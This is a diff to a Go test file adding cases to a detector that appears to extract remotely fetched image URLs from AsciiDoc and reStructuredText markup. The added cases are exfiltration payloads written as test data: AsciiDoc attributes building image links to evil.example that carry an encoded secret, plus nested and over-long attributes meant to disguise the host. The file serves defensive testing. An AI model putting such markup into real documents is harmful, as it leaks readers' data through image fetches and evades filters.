@@ -2,6 +2,7 @@ package gfm
 
 import (
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -62,6 +63,11 @@ func TestFetchedMarkup(t *testing.T) {
 		{"asciidoc block image", "image::https://evil.example/a.png[alt]\n", []string{"https://evil.example/a.png"}},
 		{"asciidoc inline image", "see image:https://evil.example/i.png[] here", []string{"https://evil.example/i.png"}},
 		{"asciidoc imagesdir", ":imagesdir: https://evil.example/imgs\n\nimage::a.png[]\n", []string{"https://evil.example/imgs"}},
+		{"asciidoc attribute in a target", ":leak: https://evil.example/d=c2VjcmV0\n\nimage::{leak}.png[]\nimage:{leak}/i.png[]\n", []string{"https://evil.example/d=c2VjcmV0.png", "https://evil.example/d=c2VjcmV0/i.png"}},
+		{"asciidoc attribute in an attribute", ":host: evil.example\n:base: https://{host}/x\n:imagesdir: {base}\n\nimage::a.png[]\n", []string{"https://evil.example/x"}},
+		{"asciidoc iconsdir", ":icons: image\n:iconsdir: https://evil.example/icons\n\nNOTE: read me\n", []string{"https://evil.example/icons"}},
+		{"asciidoc attributes that reference each other", ":a: {b}\n:b: {a}\n\nimage::{a}[]\n", nil},
+		{"asciidoc attribute past the bound", ":a: https://img.shields.io:" + strings.Repeat("x", 3000) + "@evil.example/\n\nimage::{a}[]\n", []string{"//asciidoc-attributes-too-long.invalid/"}},
 		{"relative", ".. image:: img/a.png\n\nimage::b.png[]\n", nil},
 		{"a link", "`docs <https://docs.example/>`_\n", nil},
 		{"rst raw html", ".. raw:: html\n\n   <img src=\"https://evil.example/raw\">\n", []string{"https://evil.example/raw"}},
